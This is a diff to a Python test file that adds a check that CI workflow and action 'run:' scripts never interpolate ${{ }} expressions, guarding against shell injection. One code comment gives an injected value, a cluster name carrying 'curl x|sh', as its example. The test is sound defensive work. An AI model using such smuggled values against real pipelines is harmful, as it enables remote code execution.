@@ -106,3 +106,22 @@ def test_ci_workflow_runs_the_readme_test_command_and_validate():
     assert any(r.startswith("scripts/test") for r in runs)
     assert any("deployer validate" in r for r in runs)
     assert (PROJECT / ".ci/run").read_text().count("scripts/test") == 1
+
+
+def run_scripts(data) -> list[str]:
+    """Every ``run:`` script of a workflow or action file."""
+    if isinstance(data, dict):
+        found = [data["run"]] if isinstance(data.get("run"), str) else []
+        return found + [s for key, value in data.items() if key != "run" for s in run_scripts(value)]
+    if isinstance(data, list):
+        return [s for value in data for s in run_scripts(value)]
+    return []
+
+
+def test_no_expression_is_interpolated_into_a_shell_script():
+    # A matrix value or step output written as ${{ }} inside run: becomes shell code (a cluster named
+    # `staging; curl x|sh` would run); values reach the shell through env: only.
+    files = [*WORKFLOWS, *sorted((PROJECT / ".github" / "actions").glob("*/action.y*ml"))]
+    scripts = {f.name: run_scripts(yaml.safe_load(f.read_text())) for f in files}
+    assert sum(len(s) for s in scripts.values()) > 5
+    assert {name: [s for s in found if "${{" in s] for name, found in scripts.items()} == {n: [] for n in scripts}
